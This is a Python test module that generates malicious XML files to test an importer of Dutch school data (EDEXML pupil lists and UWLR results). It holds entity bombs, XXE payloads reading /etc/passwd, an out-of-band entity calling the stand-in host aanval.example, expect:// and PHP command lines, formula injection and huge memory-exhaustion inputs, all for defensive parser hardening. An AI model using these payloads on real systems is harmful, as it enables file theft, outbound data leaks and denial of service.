"""Attacks that are XML: as EDEXML and as UWLR alike, bombs, what would open other files, encodings that lie, and text without end."""

import codecs
import itertools
from collections.abc import Callable

from attack import NAME, NUMBER, Attack, Maker, Where, files, good_edexml, joined
from conftest import eck_id, leerling

_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
_VERZOEK = "http://www.edustandaard.nl/leerresultaten/2/leerresultaten"
_XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
_MEGABYTE = 1 << 20
Document = Callable[[str, str], str]
"""The whole document, with something behind its declaration, and something for the text of a pupil."""


def edexml(prolog: str = "", text: str = NUMBER) -> str:
    """An EDEXML of the good pupils and one more."""
    whole = good_edexml(leerling(f"k{NUMBER}", text, extra=f"<achternaam>{NAME}</achternaam>"))
    return whole.replace(_DECLARATION, f"{_DECLARATION}{prolog}", 1)


def uwlr(prolog: str = "", text: str = NUMBER) -> str:
    """A UWLR file of one result."""
    level = (
        "<osoresultaat><referentiescore><codereferentiescore>FN</codereferentiescore><waarde>HAVO</waarde></referentiescore></osoresultaat>"
    )
    result = f"<resultaat><afnamedatum>2026-10-06</afnamedatum><toetscode>C</toetscode>{level}</resultaat>"
    toets = "<toets><toetscode>C</toetscode><toetsnaam>T1 rekenen-wiskunde</toetsnaam></toets>"
    return (
        f'{_DECLARATION}{prolog}<leerresultaten_verzoek xmlns="{_VERZOEK}"><school><brincode>99XX</brincode></school><toetsafnames>'
        f"<toetsafname><leerlingid>{text}</leerlingid><resultaten>{result}</resultaten></toetsafname></toetsafnames>"
        f"<toetsen>{toets}</toetsen></leerresultaten_verzoek>"
    )


def _laughs() -> str:
    names = "abcdefghij"
    grown = "".join(f'<!ENTITY {later} "{f"&{name};" * 10}">' for name, later in itertools.pairwise(names))
    return f'<!DOCTYPE x [<!ENTITY a "ha">{grown}]>'


_DOCTYPES = {
    "billion laughs": (_laughs(), "&j;"),
    "quadratic bomb": (f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 5_000),
    "entity in itself": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "entity of a file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "entity of a device": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]>', "&a;"),
    "entity of the web": ('<!DOCTYPE x [<!ENTITY a SYSTEM "http://aanval.example/a">]>', "&a;"),
    "entity of a share": ('<!DOCTYPE x [<!ENTITY a SYSTEM "\\\\aanval.example\\a">]>', "&a;"),
    "entity of a program": ('<!DOCTYPE x [<!ENTITY a SYSTEM "expect://id">]>', "&a;"),
    "entity public": ('<!DOCTYPE x [<!ENTITY a PUBLIC "x" "file:///etc/passwd">]>', "&a;"),
    "entity unparsed": ('<!DOCTYPE x [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "file:///etc/passwd" NDATA n>]>', "x"),
    "parameter entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>', "x"),
    "parameter entity that leaks": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://aanval.example/d">%d;]>',
        "&send;",
    ),
    "parameter entities that grow": ('<!DOCTYPE x [<!ENTITY % a "x"><!ENTITY % b "%a;%a;"><!ENTITY % c "%b;%b;">]>', "x"),
    "external dtd": ('<!DOCTYPE x SYSTEM "http://aanval.example/x.dtd">', "x"),
    "external dtd of a file": ('<!DOCTYPE x SYSTEM "file:///etc/passwd">', "x"),
    "external dtd with defaults": ('<!DOCTYPE x [<!ATTLIST leerling key CDATA "k0011">]>', "x"),
    "doctype in small letters": ("<!doctype x>", "x"),
    "doctype in mixed letters": ("<!DocType x>", "x"),
    "doctype with blanks": ("<!DOCTYPE\n\n\tx\n[\n]\n>", "x"),
    "doctype with a blank within": ("<! DOCTYPE x>", "x"),
    "doctype behind comments": ("<!-- x -->\n<?x y?>\n<!DOCTYPE x>", "x"),
    "doctype behind a long comment": (f"<!--{'x' * 70_000}--><!DOCTYPE x>", "x"),
    "doctype behind a comment of two chunks": (f"<!--{'x' * 65_480}--><!DOCTYPE x>", "x"),
    "doctype that never ends": ("<!DOCTYPE x [", "x"),
    "doctype within a comment": ("<!-- <!DOCTYPE x> -->", NUMBER),
    "doctype twice": ("<!DOCTYPE x><!DOCTYPE x>", "x"),
    "two declarations": (_DECLARATION, "x"),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>', NUMBER),
    "processing instruction of php": ("<?php system('id'); ?>", NUMBER),
    "processing instructions without end": ("<?x y?>" * 20_000, "x"),
    "comments without end": ("<!---->" * 20_000, "x"),
    "comment that never ends": ("<!--", "x"),
    "text before the root": ("x", "x"),
    "conditional section": ("<![INCLUDE[x]]>", "x"),
}
_TEXTS = {
    "xinclude": _XINCLUDE,
    "cdata": f"<![CDATA[{NUMBER}]]>",
    "cdata that holds markup": "<![CDATA[</leerling><leerling>]]>",
    "cdata that never ends": "<![CDATA[",
    "entity undeclared": "&nietbekend;",
    "reference to nul": "&#0;",
    "reference to a surrogate": "&#xD800;",
    "reference beyond unicode": "&#x110000;",
    "reference without end": f"&#{'9' * 10_000};",
    "reference to an escape": "&#27;[31m",
    "references without end": "&#65;" * 100_000,
    "doctype within": "<!DOCTYPE x>",
    "declaration within": _DECLARATION,
    "processing instruction within": "<?php system('id'); ?>",
    "comment within": f"00<!-- {NAME} -->97",
    "comment with dashes": "<!-- -- -->",
    "nul": "\0",
    "escape": "\x1b[31m",
    "noncharacter": "\uffff",
    "next line": f"\x85{NUMBER}\u2028",
    "right to left": "\u202e0097",
    "zero width": "\u200b0\u200d0\ufeff97",
    "arabic digits": "\u0660\u0660\u0661\u0661",
    "formula": "=1+1",
    "very long": "9" * 1_000_000,
    "too long": "9" * (3 * _MEGABYTE),
    "blanks without end": " " * (3 * _MEGABYTE),
    "nested 200 deep": "<x>" * 200 + "</x>" * 200,
    "nested 300 deep": "<x>" * 300 + "</x>" * 300,
    "nested 100,000 deep": "<x>" * 100_000,
    "closed twice": "x</leerling></leerlingid>",
    "closed by another": "<a></b>",
    "attribute twice": '<x a="1" a="2"/>',
    "attribute without quotes": "<x a=1/>",
    "attribute with markup": '<x a="<">',
    "ten thousand attributes": "<x" + "".join(f' a{number}="1"' for number in range(10_000)) + "/>",
    "ten thousand namespaces": "<x" + "".join(f' xmlns:n{number}="u{number}"' for number in range(10_000)) + "/>",
    "prefix undeclared": "<n:x/>",
    "prefix of xml": '<x xmlns:xml="urn:x"/>',
    "prefix of xmlns": '<x xmlns:xmlns="urn:x"/>',
    "namespace empty": '<x xmlns:n=""/>',
    "namespace relative": '<x xmlns="../../x"/>',
    "namespace of 100,000 letters": f'<x xmlns="{"u" * 100_000}"/>',
    "colons": "<a:b:c/>",
    "base elsewhere": '<x xml:base="file:///etc/" xml:space="preserve" xml:lang="x"/>',
    "schema elsewhere": '<x xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u http://aanval.example/x"/>',
    "pupil in a pupil": f'<leerling key="k9"><gebruikersnaam>{NUMBER}</gebruikersnaam></leerling>',
    "root in the root": "<EDEX/><leerresultaten_verzoek/>",
    "names in other letters": "<\u0430chternaam>x</\u0430chternaam>",
    "name of 60,000 letters": f"<{'n' * 60_000}/>",
    "name with controls": "<a\x01/>",
}


def _encoded(document: Document) -> dict[str, bytes]:
    """A file in encodings that it does not tell, or that nobody uses."""
    text = document("", NUMBER)
    doctype = document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")
    utf_8 = text.encode()

    def told(charset: str) -> str:
        return text.replace("UTF-8", charset, 1)

    return {
        "nothing": b"",
        "one byte": b"<",
        "only a declaration": _DECLARATION.encode(),
        "only a byte order mark": codecs.BOM_UTF8,
        "blanks before the declaration": b"\n " + utf_8,
        "byte order mark twice": codecs.BOM_UTF8 * 2 + utf_8,
        "nuls behind it": utf_8 + bytes(1000),
        "nuls before it": bytes(1000) + utf_8,
        "another document behind it": utf_8 + utf_8,
        "text behind it": utf_8 + b"x",
        "cut in half": utf_8[: len(utf_8) // 2],
        "cut in a character": text.replace(NUMBER, "\u20ac").encode()[: text.index(NUMBER) + 2],
        "utf-7": told("UTF-7").encode("utf-7"),
        "utf-7 with a doctype": doctype.replace("UTF-8", "UTF-7", 1).encode("utf-7"),
        "utf-16": told("UTF-16").encode("utf-16"),
        "utf-16 with a doctype": doctype.replace("UTF-8", "UTF-16", 1).encode("utf-16"),
        "utf-16 without a mark": told("UTF-16").encode("utf-16-le"),
        "utf-16 big with a doctype without a mark": doctype.encode("utf-16-be"),
        "utf-16 in utf-8": told("UTF-16").encode(),
        "utf-16 that is cut": told("UTF-16").encode("utf-16")[:-1],
        "utf-16 with half a pair": told("UTF-16").encode("utf-16") + b"\x00\xd8",
        "utf-32": told("UTF-32").encode("utf-32"),
        "utf-32 with a doctype": doctype.replace("UTF-8", "UTF-32", 1).encode("utf-32"),
        "utf-32 that is cut": told("UTF-32").encode("utf-32")[:-2],
        "ucs-4 in another order": b"\0\0<\0" + utf_8,
        "ebcdic": told("cp037").encode("cp037"),
        "ebcdic with a doctype": doctype.replace("UTF-8", "cp037", 1).encode("cp037", "replace"),
        "ebcdic that says utf-8": text.encode("cp037"),
        "latin-1 that says utf-8": text.replace(NUMBER, "\u00e9").encode("latin-1"),
        "overlong utf-8": utf_8.replace(NUMBER.encode(), b"\xc0\xbc\xe0\x80\xbc"),
        "surrogates in utf-8": utf_8.replace(NUMBER.encode(), b"\xed\xa0\x80"),
        "shift jis": told("Shift_JIS").encode("shift_jis"),
        "iso 2022": told("ISO-2022-JP").encode("iso-2022-jp"),
        "hz": told("hz").encode("hz"),
        "escapes of python": told("unicode-escape").encode(),
        "rot 13": told("rot13").encode(),
        "punycode": told("punycode").encode(),
        "encoding without end": told("x" * 100_000).encode(),
        "encoding with markup": told('UTF-8" x="').encode(),
        "encoding with controls": told("\x1b[31m").encode(),
        "encoding that is a path": told("../../../../etc/passwd").encode(),
        "encoding that is a module": told("antigravity").encode(),
        "version 1.1": text.replace("1.0", "1.1", 1).encode(),
        "version 9": text.replace("1.0", "9.9", 1).encode(),
        "standalone nonsense": text.replace("?>", ' standalone="misschien"?>', 1).encode(),
        "root of another kind": b"<html><body/></html>",
        "root with controls": b"<a\x1b[31m/>",
        "root of 100,000 letters": b"<" + b"a" * 100_000 + b"/>",
        "root in braces": b"<{0}/>",
        "root in cyrillic": "<\u0415DEX/>".encode(),
        "root with a prefix": b'<x:EDEX xmlns:x="urn:x"/>',
        "root in small letters": b"<edex/><LEERRESULTATEN_VERZOEK/>",
    }


def _any(document: Document) -> dict[str, Maker]:
    """The attacks that any kind of XML may be."""

    def with_doctype(prolog: str, text: str) -> Maker:
        return lambda: document(prolog, text).encode()

    def with_text(text: str) -> Maker:
        return lambda: document("", text).encode("utf-8", "surrogatepass")

    def as_it_is(content: bytes) -> Maker:
        return lambda: content

    return {
        **{name: with_doctype(*parts) for name, parts in _DOCTYPES.items()},
        **{f"text {name}": with_text(text) for name, text in _TEXTS.items()},
        **{f"file {name}": as_it_is(content) for name, content in _encoded(document).items()},
    }


def _of_edexml() -> dict[str, Maker]:
    """What only an EDEXML can do."""

    def replaced(old: str, new: str) -> Maker:
        return lambda: edexml().replace(old, new).encode()

    return {
        "klas that is a formula": replaced("<naam>2A</naam>", "<naam>=1+1</naam>"),
        "klas with controls": replaced("<naam>2A</naam>", "<naam>&#13;&#9;=1+1</naam>"),
        "klas that is an eck id": replaced("<naam>2A</naam>", f"<naam>{eck_id(3)}</naam>"),
        "gebruikersnaam that is an eck id": replaced(f">{NUMBER}<", f">{eck_id(3)}<"),
        "jaargroep without end": replaced("<jaargroep>12<", f"<jaargroep>{'9' * 10_000}<"),
        "jaargroep in arabic digits": replaced("<jaargroep>12<", "<jaargroep>\u0661\u0662<"),
        "brin of another": replaced("99XX", "99YY"),
        "brin with controls": replaced("99XX", "99XX&#10;&#9;x\u202e"),
        "brin of a formula": replaced("99XX", "=1+1"),
        "made in another age": replaced("2026-11-01T08", "9999-12-31T23"),
        "made before all": replaced("2026-11-01T08:00:00", "0001-01-01T00:00:00+14:00"),
        "made never": replaced("2026-11-01T08:00:00", "x" * 10_000),
        "schooljaar with controls": replaced("2026-2027", "&#10;{0}%s[red]\u202e"),
        "keys all the same": replaced("<leerling key=", '<leerling key="k1" x='),
        "keys without end": replaced(f'key="k{NUMBER}"', f'key="{"k" * 200_000}"'),
        "keys of dummies": replaced(f'key="k{NUMBER}"', 'key="#"'),
        "keys that are eck ids": replaced(f'key="k{NUMBER}"', f'key="{eck_id(3)}"'),
        "groep of nobody": replaced('<groep key="g1"/>', '<groep key="g999"/>'),
        "groepen that name each other": replaced('<groep key="g1"><naam>', '<groep key="g1"><groep key="g1"/><naam>'),
        "gebruikersnaam twice": replaced(f">{NUMBER}</gebruikersnaam>", f">{NUMBER}</gebruikersnaam><gebruikersnaam>0011</gebruikersnaam>"),
        "one number of two": replaced("</leerlingen>", leerling("k97", "0097") + leerling("k98", "0097") + "</leerlingen>"),
        "element names with controls": replaced(
            "</leerling>", "<toevoegingen><a\u202eb>x</a\u202eb><_x1b_31m>y</_x1b_31m></toevoegingen></leerling>"
        ),
        "toevoegingen of a thousand kinds": replaced(
            "</leerling>", f"<toevoegingen>{''.join(f'<e{n}>{n}</e{n}>' for n in range(1000))}</toevoegingen></leerling>"
        ),
    }


def _of_uwlr() -> dict[str, Maker]:
    """What only UWLR can do."""

    def replaced(old: str, new: str) -> Maker:
        return lambda: uwlr().replace(old, new).encode()

    norm = "<norm><term>havo</term><beginnormwaarde>{}</beginnormwaarde><eindnormwaarde>{}</eindnormwaarde></norm>"
    return {
        "score infinite": replaced("<osoresultaat>", "<score>1e999</score><osoresultaat>"),
        "score without end": replaced("<osoresultaat>", f"<score>{'9' * 100_000}</score><osoresultaat>"),
        "score nan": replaced("<osoresultaat>", "<score>nan</score><osoresultaat>"),
        "score with a norm without end": lambda: (
            uwlr()
            .replace("<waarde>HAVO</waarde>", "")
            .replace("<osoresultaat>", "<score>5</score><osoresultaat>")
            .replace("</toets>", f"<toetsnormering>{norm.format('-' + '9' * 5000, '9' * 5000)}</toetsnormering></toets>")
            .encode()
        ),
        "level of a formula": replaced("HAVO", "=1+1"),
        "level with controls": replaced("HAVO", "&#13;\u202e\x7f{0}"),
        "toets of a formula": replaced("T1 rekenen-wiskunde", "@SUM(1)"),
        "toets that names a pupil": replaced("T1 rekenen-wiskunde", f"T1 {NAME}"),
        "toetscode without end": replaced(">C<", f">{'C' * 100_000}<"),
        "toetscode of words": replaced(">C<", f">{'T1 ' * 30_000}<"),
        "toetsnaam of words": replaced("T1 rekenen-wiskunde", "toets 1 " * 30_000),
        "date that is none": replaced("2026-10-06", "2026-02-31"),
        "leerlingid that is an eck id": replaced(f">{NUMBER}<", f">{eck_id(3)}<"),
        "brin of another": replaced("99XX", "99YY"),
        "brin with controls": replaced("99XX", "&#10;\u202e{0}"),
        "autorisatie beside": replaced("<school>", f"<autorisatie><klantnaam>{NAME}</klantnaam></autorisatie><school>"),
        "a thousand explanations": replaced(
            "</toetsen>", "<toets><toetscode>C</toetscode><toetsnaam>T2 x</toetsnaam></toets>" * 1000 + "</toetsen>"
        ),
        "edexml among results": lambda: edexml().encode(),
        "soap without a body": lambda: b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"/>',
        "soap in soap": lambda: b'<s:Envelope xmlns:s="u">' * 100 + b"<leerresultaten_verzoek/>" + b"</s:Envelope>" * 100,
        "request in a request": lambda: b"<leerresultaten_verzoek>" * 100 + b"<school/>" + b"</leerresultaten_verzoek>" * 100,
    }


def _heavy(document: Document, element: str) -> dict[str, Maker]:
    """The same as `_any`, that would fill the memory; `element` is one that is kept until it is whole."""

    def repeated(begin: str, unit: str, count: int, end: str = "") -> Maker:
        return lambda: document("", "@@@").partition("@@@")[0].encode() + begin.encode() + unit.encode() * count + end.encode()

    return {
        "heavy text without end": repeated("", "x" * _MEGABYTE, 300),
        "heavy attribute without end": repeated('<x a="', "x" * _MEGABYTE, 300),
        "heavy comment without end": repeated("<!--", "x" * _MEGABYTE, 300),
        "heavy cdata without end": repeated("<![CDATA[", "x" * _MEGABYTE, 300),
        "heavy name without end": repeated("<", "x" * _MEGABYTE, 300),
        "heavy elements without end": repeated("", "<x/>" * 1000, 30_000),
        "heavy elements of a pupil without end": repeated("", f"<{element}/>" * 1000, 10_000),
        "heavy nested elements without end": repeated("", f"<{element}>" * 1000, 3_000),
        "heavy blanks without end": repeated("", " " * _MEGABYTE, 300),
        "heavy doctype without end": lambda: document("<!DOCTYPE x [" + "<!ENTITY a 'x'>" * 1_000_000, "x").encode(),
        "heavy prolog without end": lambda: document("<!-- x -->" * 10_000_000, "x").encode(),
        "heavy declaration without end": lambda: b"<?xml " + b"x" * (300 << 20),
    }


def attacks() -> list[Attack]:
    """All that are XML."""
    return joined(
        files(Where.EDEXML, ".xml", _any(edexml) | _of_edexml()),
        files(Where.CITO, ".xml", {f"uwlr {name}": make for name, make in (_any(uwlr) | _of_uwlr()).items()}),
        files(Where.EDEXML, ".xml", _heavy(edexml, "leerling"), heavy=True),
        files(Where.CITO, ".xml", {f"uwlr {name}": make for name, make in _heavy(uwlr, "toetsafname").items()}, heavy=True),
    )
